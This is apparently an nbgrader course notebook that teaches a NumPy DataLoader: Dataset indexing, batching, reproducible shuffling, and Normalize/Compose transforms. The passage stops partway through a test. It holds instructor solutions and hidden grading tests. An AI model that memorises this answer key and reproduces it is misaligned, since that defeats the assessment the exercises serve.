# %% [markdown]
# # Module 08 — DataLoader: batches, shuffling, transforms and real datasets
#
# Modules 01–07 built a framework that can train: tensors, layers, losses, gradients, optimizers
# and a training loop. So far every model has been fed arrays that were already in memory, in
# the right shape, all at once. Real training is fed differently:
#
# ```
#   files on disk ──► Dataset ──────────────► DataLoader ───────────────────► model
#   (idx, .bin)       len(ds) = 60 000        each epoch: shuffle the order,
#   verified by       ds[i] = (image, label)  cut it into batches of 64,     (64, 1, 28, 28) float32
#   checksum          ds.get_batch(indices)   augment, wrap in Tensors       (64,) int64
# ```
#
# This module builds that pipeline, and then points it at real data: MNIST (70 000 handwritten
# digits) and CIFAR-10 (60 000 colour photos). It looks like plumbing, and it is; it is also
# where many real training bugs live. The data is not shuffled, so each batch holds one
# class. An epoch silently skips samples. Augmentation draws from an unseeded generator and no
# run can be repeated. A download is cut off halfway and the truncated file is parsed as data.
# A "dataset" file from the internet runs code on your machine when you open it. Each section
# below removes one of these bugs.
#
# **Prerequisites:** module 01 (Tensor, `manual_seed`/`get_rng`). Nothing else: a loader only
# moves data. **Time:** about 3 hours.
#
# ## Learning Objectives
#
# By the end of this module you will be able to:
#
# 1. Explain why we train on **mini-batches**: the gradient noise of a batch of `B` samples
#    against the throughput of the hardware, and why every epoch needs a fresh shuffle.
# 2. Implement PyTorch's **Dataset / DataLoader protocol** (`__len__`, `__getitem__`,
#    batching, shuffling, `drop_last`) with **one fancy index per batch** instead of one Python
#    call per sample, and *measure* the difference.
# 3. Make shuffling and augmentation **reproducible** with a per-loader random generator.
# 4. Write **batch transforms** without Python loops over samples: `Normalize`, `RandomCrop`
#    (per-sample offsets through a sliding-window view) and `RandomHorizontalFlip`.
# 5. Parse the **idx** (MNIST) and **CIFAR-10 binary** formats, check every header, and
#    explain why a loader must never unpickle a file it has not verified.
# 6. Download files that can be trusted: several mirrors, a **checksum** before use, and
#    **atomic writes**, so a broken download never lands under the real file name.
# 7. Measure what a dataset costs in memory (uint8 against float32) and decide where the
#    conversion belongs.

# %% nbgrader={"grade": false, "grade_id": "dataloader-imports", "locked": false, "schema_version": 3, "solution": false}
#| default_exp data.loader
#| export
from __future__ import annotations

import gzip
import hashlib
import http.client
import numbers
import os
import tarfile
import urllib.request
import zlib
from contextlib import contextmanager
from pathlib import Path
from typing import Any, Callable, Iterator, Sequence

import numpy as np
from numpy.lib.stride_tricks import sliding_window_view

from tinytorch.core.tensor import Tensor, get_rng

# %% nbgrader={"grade": false, "grade_id": "dataloader-test-helpers", "locked": false, "schema_version": 3, "solution": false}
# Used by the tests and demonstrations below, not by the loader itself.
import contextlib
import tempfile
import time

from tinytorch.core.tensor import manual_seed


def idx_bytes(array: np.ndarray) -> bytes:
    """A uint8 array in the idx format: magic (0, 0, 0x08, ndim), the sizes (big-endian), the bytes."""
    header = bytes([0, 0, 0x08, array.ndim]) + np.array(array.shape, dtype=">u4").tobytes()
    return header + np.ascontiguousarray(array, dtype=np.uint8).tobytes()


def cifar_bytes(images: np.ndarray, labels: np.ndarray) -> bytes:
    """Records in the CIFAR-10 binary format: 1 label byte, then 3 072 pixel bytes (R, G, B planes)."""
    records = np.concatenate([labels.reshape(-1, 1), images.reshape(len(images), -1)], axis=1)
    return records.astype(np.uint8).tobytes()


@contextlib.contextmanager
def registered_checksums(files: dict[str, bytes]):
    """Temporarily register the sha256 of generated files (the real registry lists the real files)."""
    saved = dict(CHECKSUMS)
    CHECKSUMS.update({name: "sha256:" + hashlib.sha256(data).hexdigest() for name, data in files.items()})
    try:
        yield
    finally:
        CHECKSUMS.clear()
        CHECKSUMS.update(saved)

# %% [markdown]
# ## 1. Why batches?
#
# Training minimises the average loss over the whole training set. Its gradient is an average
# of per-sample gradients, and there are three ways to estimate it at each step:
#
# | per step, use… | gradient estimate | steps per epoch (MNIST) | hardware |
# |---|---|---|---|
# | all 60 000 samples | exact | **1** | saturated, but one step per epoch is painfully slow progress |
# | 1 sample | very noisy (variance σ²) | 60 000 | one matrix-*vector* product per layer: memory-bound, mostly idle |
# | a **mini-batch** of `B` | noisy, variance σ²/B | 60 000 / B | matrix-*matrix* products: BLAS near its peak |
#
# Two curves cross here. The **noise** of the estimate falls like `1/√B` (standard deviation),
# so going from `B = 1` to `B = 64` makes each step 8× more accurate, and going from 64 to 4096
# only another 8×, for 64× the work. The **throughput** of the hardware rises with `B` until
# the arithmetic units are full (module 03 measured a `Linear(784→256)` going from about
# 15 GFLOP/s at batch 1 to over 100 GFLOP/s at batch 256), and then stays flat. Beyond that
# point, a bigger batch costs proportionally more time for a gradient that is only a little
# better. Batch sizes of 32–256 sit near the crossing for small models on a CPU, which is why
# you see them everywhere. (Some noise is even welcome: it helps SGD escape sharp minima, and
# very large batches need tricks such as learning-rate warm-up to train as well.)
#
# **Why shuffle?** A mini-batch gradient is an honest estimate of the full gradient only if the
# batch is a *random sample* of the data. Files are rarely stored in random order: MNIST's
# test file holds its 5 000 cleaner digits first and its 5 000 harder ones last, and many
# datasets are sorted by class. Feed a class-sorted file in order and the first hundred steps
# see only zeros: the model learns "always say 0", then "always say 1", and so on. Drawing a
# **new permutation every epoch** makes every batch a random sample, and different batches in
# different epochs.
#
# ## 2. The Dataset protocol
#
# PyTorch separates *what the data is* from *how it is served*. A **Dataset** answers two
# questions and nothing else:
#
# ```python
# len(dataset)          # how many samples?
# dataset[i]            # sample i, e.g. (image, label)
# ```
#
# Anything with these two methods is a dataset: arrays in memory, a folder of JPEGs, rows of a
# database. A **DataLoader** then does everything else: orders, batches, augments, converts.
#
# ### The slow path and the fast path
#
# The simple way to build a batch is one `dataset[i]` per sample, then stack:
#
# ```
#   indices [17, 3, 42, …]   ──►  ds[17]  ds[3]  ds[42] …  ──►  np.stack  ──►  (B, 1, 28, 28)
#                                 B Python calls, B small arrays, one copy to stack them
# ```
#
# For a dataset that lives in **one big array**, this wastes almost all of its time in the
# Python interpreter: a call, a tuple, two small arrays per sample. NumPy can gather all `B`
# rows in a single operation, an integer-array ("fancy") index:
#
# ```
#   images[[17, 3, 42, …]]   ──►  (B, 1, 28, 28) in one C loop, one allocation
#   labels[[17, 3, 42, …]]   ──►  (B,)
# ```
#
# So our datasets have a third, optional method, **`get_batch(indices)`**, which returns the
# whole batch at once. The base class implements it the slow way (it works for any dataset);
# array-backed datasets override it with one fancy index per array. The loader always calls
# `get_batch`, and never needs to know which kind of dataset it has. (PyTorch has the same
# escape hatch under the name `__getitems__`.)
#
# ### TensorDataset
#
# `TensorDataset(X, y)` wraps arrays (or Tensors) that share their first dimension: sample `i`
# is `(X[i], y[i])`. It stores NumPy arrays and returns NumPy arrays: the *loader* turns batches
# into Tensors, once per batch. Indexing follows NumPy:
#
# | index | returns |
# |---|---|
# | an int `i` (negative counts from the end) | a tuple of samples `(X[i], y[i])` |
# | an integer array, a list or a slice | a tuple of batched arrays `(X[idx], y[idx])`: the fast path |
#
# Your turn: `stack_samples` (the slow path, used by any dataset), and `TensorDataset`'s
# indexing. `_index_array` (given) turns a slice, list or array into validated integer indices.

# %% nbgrader={"grade": false, "grade_id": "dataset", "locked": false, "schema_version": 3, "solution": true}
#| export
def _is_int(value: Any) -> bool:
    """True for Python and NumPy integers, but not for booleans."""
    return isinstance(value, (numbers.Integral, np.integer)) and not isinstance(value, (bool, np.bool_))


def _as_array(value: Any) -> np.ndarray:
    """The NumPy array inside a Tensor, or np.asarray(value); never a copy when avoidable."""
    return value.data if isinstance(value, Tensor) else np.asarray(value)


def _index_array(indices: Any, length: int) -> np.ndarray:
    """Integer indices (1-D) from a slice, a list, an array or a Tensor, checked against `length`."""
    if isinstance(indices, slice):
        return np.arange(length)[indices]
    array = _as_array(indices)
    if array.ndim != 1 or not (np.issubdtype(array.dtype, np.integer) or array.size == 0):
        raise TypeError(f"Batch indices must be a 1-D array of integers (or a slice); "
                        f"got shape {array.shape} and dtype {array.dtype}.")
    if array.size and (array.min() < -length or array.max() >= length):
        bad = array[(array < -length) | (array >= length)][0]
        raise IndexError(f"Index {bad} is out of range for a dataset of {length} samples.")
    return array.astype(np.intp, copy=False)


class Dataset:
    """A map-style dataset: `len(ds)` samples, `ds[i]` is sample i.

    Subclasses define `__len__` and `__getitem__`. `get_batch(indices)` gives a whole batch; here
    it is the slow path (one `__getitem__` per sample, then stack). Array-backed datasets
    override it with one fancy index per array.
    """

    def __len__(self) -> int:
        raise NotImplementedError(f"{type(self).__name__} must define __len__.")

    def __getitem__(self, index: int) -> Any:
        raise NotImplementedError(f"{type(self).__name__} must define __getitem__.")

    def get_batch(self, indices: Sequence[int]) -> Any:
        """The samples at `indices`, stacked: one Python call per sample (the slow path)."""
        return stack_samples([self[int(i)] for i in _index_array(indices, len(self))])


def stack_samples(samples: list[Any]) -> Any:
    """Stack a list of samples into a batch.

    A sample is a tuple/list of fields, e.g. (image, label): return a tuple with one stacked
    array per field. A sample that is a single array (or number) gives one stacked array.
    Tensors are unwrapped to their arrays.

    Examples:
        stack_samples([(x0, 3), (x1, 7)])  ->  (np.stack([x0, x1]), np.array([3, 7]))
        stack_samples([x0, x1])             ->  np.stack([x0, x1])

    HINTS:
    - np.stack([_as_array(v) for v in ...]) stacks one field.
    - Raise ValueError if samples have different numbers of fields, and for an empty list.
    """
    if not samples:
        raise ValueError("Cannot stack an empty list of samples.")
    ### BEGIN SOLUTION
    first = samples[0]
    if not isinstance(first, (tuple, list)):
        return np.stack([_as_array(s) for s in samples])
    widths = {len(s) if isinstance(s, (tuple, list)) else 1 for s in samples}
    if widths != {len(first)}:
        raise ValueError(f"Samples have different numbers of fields: {sorted(widths)}; "
                         f"every sample must be a tuple of the same length, e.g. (image, label).")
    return tuple(np.stack([_as_array(s[k]) for s in samples]) for k in range(len(first)))
    ### END SOLUTION


class TensorDataset(Dataset):
    """Samples are rows of arrays that share their first dimension: ds[i] = (X[i], y[i], ...).

    TensorDataset(*tensors): Tensors or array-likes, at least one, same first dimension.
    Stored as NumPy arrays without copying (`.arrays`); indexing returns NumPy arrays.
    """

    def __init__(self, *tensors: Any) -> None:
        if not tensors:
            raise ValueError("TensorDataset needs at least one array, e.g. TensorDataset(X, y).")
        arrays = tuple(_as_array(t) for t in tensors)
        for k, array in enumerate(arrays):
            if array.ndim == 0:
                raise ValueError(f"TensorDataset argument {k} is a single number; every argument "
                                 f"needs a first dimension that counts the samples.")
        if len({len(a) for a in arrays}) != 1:
            shapes = ", ".join(str(a.shape) for a in arrays)
            raise ValueError(f"TensorDataset needs the same number of samples (first dimension) in "
                             f"every array; got shapes {shapes}.")
        self.arrays = arrays

    def __len__(self) -> int:
        return len(self.arrays[0])

    def __getitem__(self, index: Any) -> tuple:
        """An int gives a tuple of samples; a slice, list or integer array a tuple of batches.

        HINTS:
        - For an int, check the range (negative counts from the end) and raise IndexError
          naming the index and the length, e.g. "Index 12 is out of range for a dataset of 10 samples."
        - Serve an int through `self.get_batch([i])` and take row 0 of each field: then a
          subclass that converts batches in `get_batch` (ImageDataset, below) converts samples too.
        - Anything else goes to `self.get_batch(index)`.
        """
        ### BEGIN SOLUTION
        if _is_int(index):
            n = len(self)
            if not -n <= index < n:
                raise IndexError(f"Index {index} is out of range for a dataset of {n} samples.")
            return tuple(field[0] for field in self.get_batch(np.array([index])))
        return self.get_batch(index)
        ### END SOLUTION

    def get_batch(self, indices: Any) -> tuple[np.ndarray, ...]:
        """(X[indices], y[indices], ...): one fancy index per array, no loop over samples.

        HINT: `_index_array(indices, len(self))` validates and converts the indices.
        """
        ### BEGIN SOLUTION
        indices = _index_array(indices, len(self))
        return tuple(array[indices] for array in self.arrays)
        ### END SOLUTION

    def __repr__(self) -> str:
        fields = ", ".join(f"{a.shape} {a.dtype}" for a in self.arrays)
        return f"{type(self).__name__}({len(self)} samples: {fields})"

# %% nbgrader={"grade": true, "grade_id": "test-dataset", "locked": true, "points": 10, "schema_version": 3, "solution": false}
def test_unit_tensor_dataset():
    import pytest

    X = np.arange(20, dtype=np.float32).reshape(10, 2)
    y = np.arange(10) % 3
    ds = TensorDataset(Tensor(X), y)
    assert len(ds) == 10
    x3, y3 = ds[3]
    np.testing.assert_array_equal(x3, [6.0, 7.0])
    assert y3 == 0 and x3.dtype == np.float32
    np.testing.assert_array_equal(ds[-1][0], X[9])

    # The fast path: an integer array gives whole batches, in the order asked for.
    xb, yb = ds[np.array([7, 2, 2, 0])]
    np.testing.assert_array_equal(xb, X[[7, 2, 2, 0]])
    np.testing.assert_array_equal(yb, y[[7, 2, 2, 0]])
    xs, ys = ds[2:5]
    assert xs.shape == (3, 2) and list(ys) == [2, 0, 1]
    assert ds.get_batch([1])[0].shape == (1, 2)

    with pytest.raises(IndexError, match="Index 10 is out of range for a dataset of 10 samples"):
        ds[10]
    with pytest.raises(IndexError, match="out of range"):
        ds[np.array([0, 11])]
    with pytest.raises(ValueError, match="same number of samples") as err:
        TensorDataset(X, y[:9])
    assert "(10, 2)" in str(err.value) and "(9,)" in str(err.value)

    # The slow path stacks samples one by one, and agrees with the fast path.
    class Squares(Dataset):
        def __len__(self):
            return 6

        def __getitem__(self, i):
            return Tensor([float(i), float(i * i)]), i % 2

    feats, labels = Squares().get_batch([5, 1])
    np.testing.assert_array_equal(feats, [[5.0, 25.0], [1.0, 1.0]])
    np.testing.assert_array_equal(labels, [1, 1])
    slow = Dataset.get_batch(ds, [4, 0, 9])
    fast = ds.get_batch([4, 0, 9])
    for a, b in zip(slow, fast):
        np.testing.assert_array_equal(a, b)
    np.testing.assert_array_equal(stack_samples([np.zeros(2), np.ones(2)]), [[0, 0], [1, 1]])
    with pytest.raises(ValueError):                                 # different numbers of fields
        stack_samples([(1, 2), (1, 2, 3)])

    ### BEGIN HIDDEN TESTS
    assert ds[np.int64(2)][1] == 2
    with pytest.raises(TypeError, match="1-D array of integers"):
        ds.get_batch(np.array([0.5, 1.0]))
    assert ds.get_batch(np.array([], dtype=np.int64))[0].shape == (0, 2)
    with pytest.raises(ValueError, match="single number"):
        TensorDataset(np.float32(3.0))
    assert "10 samples" in repr(ds)
    ### END HIDDEN TESTS


if __name__ == "__main__":
    test_unit_tensor_dataset()

# %% [markdown]
# ## 3. The DataLoader
#
# One epoch of a loader with `batch_size=4, shuffle=True` over 10 samples:
#
# ```
#   order = permutation(10)     [7 2 9 0 | 4 8 1 5 | 3 6]          a new permutation every epoch
#                                └──┬──┘   └──┬──┘   └┬┘
#   get_batch(order[0:4])         batch 0   batch 1   batch 2       len(loader) = ceil(10/4) = 3
#                                                      (2 samples; dropped if drop_last=True)
#   transform(inputs, rng)      augment the whole batch at once (section 4)
#   Tensor(inputs), Tensor(labels, int64)                            what the model receives
# ```
#
# The number of batches is `ceil(N / B)`, or `floor(N / B)` with `drop_last=True`. Why drop
# the last, smaller batch? Its gradient is noisier (fewer samples), and layers that compute
# statistics over the batch (batch norm) can misbehave on a batch of one.
#
# **What the model receives.** Batches become Tensors with the same rule as `Tensor(array)`:
# floating-point data becomes float32 (a float64 array from NumPy would otherwise make every
# layer compute in float64, twice the memory and slower), and **integer arrays become int64**,
# the class labels that `CrossEntropyLoss` expects. Keep images as floats, or use
# `ImageDataset` (section 6), which stores bytes and serves floats.
#
# ### Reproducible shuffling
#
# A run must be repeatable: same seed, same batches, same model. Each loader owns a
# `np.random.Generator`, `loader.generator`, and draws every permutation (and every random
# augmentation) from it:
#
# - `DataLoader(ds, shuffle=True, seed=0)` uses `np.random.default_rng(0)`: the same sequence of
#   epochs every time, whatever else the program draws.
# - With `seed=None` the generator is **spawned** from TinyTorch's global generator
#   (`get_rng().spawn(1)[0]`), so `manual_seed(0)` before creating the loader makes it
#   reproducible too. Spawning derives an independent child stream without drawing a number
#   from the parent, so creating a loader does not shift the model's initialisation.
#
# Because the generator lives as long as the loader, epoch 2 continues the stream: its
# permutation differs from epoch 1's, and re-creating the loader with the same seed replays
# both.
#
# ### Where the stream stands: `state_dict()`
#
# A run that stops after epoch 2 and resumes from a checkpoint in a new process creates a new
# loader, whose generator is back at epoch 1. To resume *exactly*, the checkpoint must also
# hold the loader's position in its stream: `loader.state_dict()` is the generator's state (a
# dict of integers, JSON-able), and `loader.load_state_dict(state)` puts a new loader at the
# same point, so its next epoch draws the permutation (and the augmentations) that epoch 3
# would have drawn. Module 07's `Trainer` saves it with every checkpoint of `fit()`. The names
# are those of `torchdata`'s `StatefulDataLoader`.
#
# Your turn: the number of batches, the order of an epoch, and the batch loop.

# %% nbgrader={"grade": false, "grade_id": "dataloader", "locked": false, "schema_version": 3, "solution": true}
#| export
def _batch_tensor(array: Any) -> Tensor:
    """A batch as a Tensor: integer arrays (labels) become int64, everything else float32."""
    array = np.asarray(array)
    return Tensor(array, dtype=np.int64 if np.issubdtype(array.dtype, np.integer) else None)


class DataLoader:
    """Serve a dataset in batches of Tensors: `for x, y in DataLoader(ds, batch_size=64, shuffle=True)`.

    DataLoader(dataset, batch_size=1, shuffle=False, drop_last=False, seed=None, transform=None)
        dataset:   anything with __len__ and __getitem__; `get_batch(indices)` if it has one
                   (the fast path), otherwise one __getitem__ per sample (the slow path).
        shuffle:   a new random order every epoch, drawn from `self.generator`.
        drop_last: skip the last batch when it has fewer than batch_size samples.
        seed:      seeds `self.generator`; None spawns it from TinyTorch's get_rng().
        transform: applied to the inputs (the first field) of every batch, as NumPy arrays.

    Iterating yields a tuple of Tensors per batch (or one Tensor if samples are single arrays).
    """

    def __init__(self, dataset: Any, batch_size: int = 1, shuffle: bool = False, drop_last: bool = False,
                 seed: int | None = None, transform: Callable | None = None) -> None:
        if not (hasattr(dataset, "__len__") and hasattr(dataset, "__getitem__")):
            raise TypeError(f"DataLoader needs a dataset with __len__ and __getitem__, "
                            f"got {type(dataset).__name__}.")
        if not _is_int(batch_size) or batch_size < 1:
            raise ValueError(f"batch_size must be a positive integer, got {batch_size!r}.")
        if len(dataset) == 0:
            raise ValueError("DataLoader got an empty dataset (0 samples): there is nothing to iterate over.")
        if seed is not None and not _is_int(seed):
            raise TypeError(f"seed must be an integer or None, got {seed!r}.")
        if transform is not None and not callable(transform):
            raise TypeError(f"transform must be callable, got {type(transform).__name__}.")
        self.dataset = dataset
        self.batch_size = int(batch_size)
        self.shuffle = bool(shuffle)
        self.drop_last = bool(drop_last)
        self.transform = transform
        self.generator = np.random.default_rng(seed) if seed is not None else get_rng().spawn(1)[0]

    def __len__(self) -> int:
        """The number of batches in one epoch: ceil(N / batch_size), floor with drop_last."""
        ### BEGIN SOLUTION
        n = len(self.dataset)
        return n // self.batch_size if self.drop_last else -(-n // self.batch_size)
        ### END SOLUTION

    def epoch_order(self) -> np.ndarray:
        """The sample indices of one epoch: a fresh permutation from self.generator if shuffling,
        0, 1, ..., N-1 otherwise."""
        ### BEGIN SOLUTION
        n = len(self.dataset)
        return self.generator.permutation(n) if self.shuffle else np.arange(n)
        ### END SOLUTION

    def __iter__(self) -> Iterator[Any]:
        # The order is drawn now, when iteration starts, not at the first next().
        return self._batches(self.epoch_order())

    def _fetch(self, indices: np.ndarray) -> Any:
        """One batch of NumPy arrays: the dataset's get_batch if it has one, else sample by sample."""
        get_batch = getattr(self.dataset, "get_batch", None)
        if get_batch is not None:
            return get_batch(indices)
        return stack_samples([self.dataset[int(i)] for i in indices])

    def _to_tensors(self, batch: Any) -> Any:
        """Transform the inputs (the first field), then wrap every field as a Tensor."""
        if isinstance(batch, (tuple, list)):
            inputs, *rest = batch
            return (_batch_tensor(apply_transform(self.transform, inputs, self.generator)),
                    *(_batch_tensor(field) for field in rest))
        return _batch_tensor(apply_transform(self.transform, batch, self.generator))

    def _batches(self, order: np.ndarray) -> Iterator[Any]:
        """Yield `len(self)` batches: consecutive slices of `order`, fetched and converted.

        HINT: slice `order` in steps of batch_size; `self._fetch(indices)` gets the arrays and
        `self._to_tensors(batch)` transforms and wraps them. Stop after len(self) batches.
        """
        ### BEGIN SOLUTION
        for start in range(0, len(self) * self.batch_size, self.batch_size):
            indices = order[start:start + self.batch_size]
            yield self._to_tensors(self._fetch(indices))
        ### END SOLUTION

    def state_dict(self) -> dict[str, Any]:
        """Where the loader's random stream stands (JSON-able): save it to resume shuffling exactly."""
        return {"generator": self.generator.bit_generator.state}

    def load_state_dict(self, state: dict[str, Any]) -> None:
        """Continue the random stream saved by state_dict(): the next epoch is the one that would have come."""
        expected = type(self.generator.bit_generator).__name__
        saved = state.get("generator") if isinstance(state, dict) else None
        if not isinstance(saved, dict) or saved.get("bit_generator") != expected:
            raise ValueError(f"DataLoader.load_state_dict expects the dict returned by state_dict(), holding a "
                             f"{expected} generator state; got {state!r:.80}.")
        self.generator.bit_generator.state = saved

    def __repr__(self) -> str:
        return (f"DataLoader({self.dataset!r}, batch_size={self.batch_size}, shuffle={self.shuffle}, "
                f"drop_last={self.drop_last}: {len(self)} batches)")


def apply_transform(transform: Callable | None, x: np.ndarray, rng: np.random.Generator | None) -> np.ndarray:
    """Apply a transform to a batch; TinyTorch `Transform`s also receive the generator to draw from."""
    if transform is None:
        return x
    if isinstance(transform, Transform):
        return transform(x, rng=rng)
    return transform(x)  # any other callable, e.g. lambda x: x.reshape(len(x), -1)


class Transform:
    """Base class of batch transforms: `transform(batch, rng=None) -> batch`, NumPy in, NumPy out.

    Random transforms draw from `rng` (the loader passes its generator), or from TinyTorch's
    get_rng() when called without one.
    """

    def __call__(self, x: np.ndarray, rng: np.random.Generator | None = None) -> np.ndarray:
        raise NotImplementedError(f"{type(self).__name__} must define __call__(x, rng=None).")

    def extra_repr(self) -> str:
        return ""

    def __repr__(self) -> str:
        return f"{type(self).__name__}({self.extra_repr()})"

# %% nbgrader={"grade": true, "grade_id": "test-dataloader", "locked": true, "points": 10, "schema_version": 3, "solution": false}
def test_unit_dataloader():
    import json

    import pytest

    X = np.arange(10, dtype=np.float64).reshape(10, 1)
    y = np.arange(10, dtype=np.int32)
    ds = TensorDataset(X, y)

    # In order, ceil(10 / 4) = 3 batches, the last one short; Tensors of float32 and int64.
    loader = DataLoader(ds, batch_size=4)
    assert len(loader) == 3
    batches = list(loader)
    assert [len(yb.data) for _, yb in batches] == [4, 4, 2]
    xb, yb = batches[0]
    assert isinstance(xb, Tensor) and xb.dtype == np.float32 and yb.dtype == np.int64
    np.testing.assert_array_equal(np.concatenate([b.data for _, b in batches]), np.arange(10))
    assert len(DataLoader(ds, batch_size=4, drop_last=True)) == 2
    assert [len(b.data) for _, b in DataLoader(ds, batch_size=4, drop_last=True)] == [4, 4]
    assert len(DataLoader(ds, batch_size=5)) == 2 and len(DataLoader(ds, batch_size=64)) == 1

    # Shuffled: every sample exactly once per epoch, a new order each epoch, and reproducible.
    loader = DataLoader(ds, batch_size=3, shuffle=True, seed=0)
    epoch1 = np.concatenate([b.data for _, b in loader])
    epoch2 = np.concatenate([b.data for _, b in loader])
    assert sorted(epoch1) == list(range(10)) and sorted(epoch2) == list(range(10))
    assert not np.array_equal(epoch1, epoch2)
    again = DataLoader(ds, batch_size=3, shuffle=True, seed=0)
    np.testing.assert_array_equal(np.concatenate([b.data for _, b in again]), epoch1)
    # Inputs and labels stay paired.
    for xb, yb in DataLoader(ds, batch_size=3, shuffle=True, seed=1):
        np.testing.assert_array_equal(xb.data[:, 0], yb.data)

    # seed=None: manual_seed makes the loader reproducible.
    manual_seed(7)
    first = np.concatenate([b.data for _, b in DataLoader(ds, batch_size=10, shuffle=True)])
    manual_seed(7)
    second = np.concatenate([b.data for _, b in DataLoader(ds, batch_size=10, shuffle=True)])
    np.testing.assert_array_equal(first, second)

    # state_dict: a new loader continues the stream where the saved one stood.
    loader = DataLoader(ds, batch_size=4, shuffle=True, seed=3)
    list(loader)
    saved = loader.state_dict()
    expected_next = np.concatenate([b.data for _, b in loader])
    resumed = DataLoader(ds, batch_size=4, shuffle=True, seed=99)
    resumed.load_state_dict(json.loads(json.dumps(saved)))  # survives a JSON checkpoint
    np.testing.assert_array_equal(np.concatenate([b.data for _, b in resumed]), expected_next)
    with pytest.raises(ValueError, match="expects the dict returned by state_dict"):
        resumed.load_state_dict({"generator": 42})

    with pytest.raises(ValueError, match="batch_size must be a positive integer, got 0"):
        DataLoader(ds, batch_size=0)
    with pytest.raises(ValueError, match="empty dataset"):
        DataLoader(TensorDataset(np.zeros((0, 2))))

    ### BEGIN HIDDEN TESTS
    # A dataset without get_batch (duck-typed) goes through the slow path; single-array samples.
    class Plain:
        def __len__(self):
            return 5

        def __getitem__(self, i):
            return np.full(2, i, dtype=np.float32)

    out = list(DataLoader(Plain(), batch_size=2))
    assert len(out) == 3 and isinstance(out[0], Tensor) and out[0].shape == (2, 2)
    np.testing.assert_array_equal(out[2].data, [[4.0, 4.0]])
    # A plain callable transform is applied to the inputs only.
    xb, yb = next(iter(DataLoader(ds, batch_size=10, transform=lambda a: a * 2)))
    np.testing.assert_array_equal(xb.data[:, 0], 2 * np.arange(10))
    np.testing.assert_array_equal(yb.data, np.arange(10))
    with pytest.raises(ValueError, match="positive integer"):
        DataLoader(ds, batch_size=2.5)
    with pytest.raises(TypeError, match="__len__ and __getitem__"):
        DataLoader(42)
    assert "3 batches" in repr(DataLoader(ds, batch_size=4))
    ### END HIDDEN TESTS


if __name__ == "__main__":
    test_unit_dataloader()

# %% [markdown]
# ## 4. Transforms and augmentation, a whole batch at a time
#
# A **transform** changes the inputs on their way to the model. Two kinds matter:
#
# - **Preprocessing**, the same every time: scale pixels to [0, 1], subtract the mean and
#   divide by the standard deviation of each channel. Inputs centred near 0 with unit spread
#   suit the initialisation of module 03 (it assumes unit-variance inputs) and keep the first
#   layer's gradients well scaled.
# - **Augmentation**, random every time: shift the image a few pixels, mirror it. The label
#   does not change (a cat moved two pixels to the left is still a cat), so each epoch shows
#   the model a slightly different training set. It is the cheapest defence against
#   overfitting that vision has: the classic CIFAR-10 recipe (pad 4, crop 32, flip) is worth
#   several points of test accuracy.
#
# torchvision applies transforms to **one sample at a time**, inside `dataset[i]`, in worker
# processes. Our transforms take the **whole batch**, `(N, C, H, W)` or `(N, D)`, NumPy in
# and NumPy out, and do every sample in one vectorised operation. The loader applies them to
# the inputs of each batch and passes its own generator, so augmentation is reproducible
# whenever shuffling is.
#
# ### Normalize
#
# `Normalize(mean, std)` computes `(x - mean) / std` per channel: for `(N, C, H, W)` the
# statistics have one value per channel `C` and broadcast as `(1, C, 1, 1)`; for `(N, D)` one
# value per feature, as `(1, D)`; a single number applies to everything. For MNIST the usual
# values are mean 0.1307, std 0.3081 (computed over the training pixels once, in [0, 1]).
#
# ### Compose
#
# `Compose([t1, t2, ...])` applies transforms in order, handing the generator to each.
#
# Your turn: the arithmetic of `Normalize` and the loop of `Compose`.

# %% nbgrader={"grade": false, "grade_id": "normalize-compose", "locked": false, "schema_version": 3, "solution": true}
#| export
def _float_batch(x: Any, who: str, min_ndim: int = 2) -> np.ndarray:
    """A batch as a floating-point array (integers become float32), with at least `min_ndim` axes."""
    x = _as_array(x)
    if x.ndim < min_ndim:
        raise ValueError(f"{who} works on whole batches with shape (N, ...) of at least {min_ndim} "
                         f"dimensions; got shape {x.shape}.")
    return x if np.issubdtype(x.dtype, np.floating) else x.astype(np.float32)


class Normalize(Transform):
    """(x - mean) / std with one mean and std per channel (axis 1), or one for everything.

    Normalize(mean, std): numbers or sequences; every std must be > 0.
    """

    def __init__(self, mean: Any, std: Any) -> None:
        self.mean = np.atleast_1d(np.asarray(mean, dtype=np.float32))
        self.std = np.atleast_1d(np.asarray(std, dtype=np.float32))
        if self.mean.ndim != 1 or self.std.ndim != 1:
            raise ValueError("Normalize takes one mean and one std per channel (numbers or flat sequences).")
        if len(self.mean) != len(self.std) and 1 not in (len(self.mean), len(self.std)):
            raise ValueError(f"Normalize got {len(self.mean)} means but {len(self.std)} stds; "
                             f"give one of each per channel.")
        if not np.all(self.std > 0):
            raise ValueError(f"Normalize needs every std > 0, got {self.std.tolist()}.")

    def __call__(self, x: Any, rng: np.random.Generator | None = None) -> np.ndarray:
        """(x - mean) / std, broadcasting mean and std over axis 1 (channels or features).

        HINT: reshape mean and std to (1, C, 1, ..., 1): one 1 for every axis after the channels.
        """
        x = _float_batch(x, "Normalize")
        channels = max(len(self.mean), len(self.std))
        if channels not in (1, x.shape[1]):
            raise ValueError(f"Normalize has {channels} mean/std values but the batch has {x.shape[1]} "
                             f"channels (shape {x.shape}); give one value per channel, or one for all.")
        ### BEGIN SOLUTION
        shape = (1, -1) + (1,) * (x.ndim - 2)
        return (x - self.mean.reshape(shape).astype(x.dtype)) / self.std.reshape(shape).astype(x.dtype)
        ### END SOLUTION

    def extra_repr(self) -> str:
        return f"mean={self.mean.tolist()}, std={self.std.tolist()}"


class Compose(Transform):
    """Apply transforms in order: Compose([RandomCrop(32, padding=4), Normalize(...)])."""

    def __init__(self, transforms: Sequence[Callable]) -> None:
        self.transforms = list(transforms)
        for t in self.transforms:
            if not callable(t):
                raise TypeError(f"Compose takes callables (transforms), got {type(t).__name__}.")

    def __call__(self, x: Any, rng: np.random.Generator | None = None) -> np.ndarray:
        """Each transform in turn, handing `rng` on (use apply_transform)."""
        ### BEGIN SOLUTION
        for transform in self.transforms:
            x = apply_transform(transform, x, rng)
        return x
        ### END SOLUTION

    def extra_repr(self) -> str:
        return ", ".join(repr(t) for t in self.transforms)

# %% nbgrader={"grade": true, "grade_id": "test-normalize-compose", "locked": true, "points": 8, "schema_version": 3, "solution": false}
def test_unit_normalize_and_compose():
    import pytest

    rng = np.random.default_rng(0)
    images = rng.random((5, 3, 4, 4), dtype=np.float32)
    norm = Normalize([0.5, 0.4, 0.3], [0.2, 0.25, 0.5])
    out = norm(images)
    assert out.shape == images.shape and out.dtype == np.float32
    np.testing.assert_allclose(out[:, 1], (images[:, 1] - 0.4) / 0.25, rtol=1e-6)
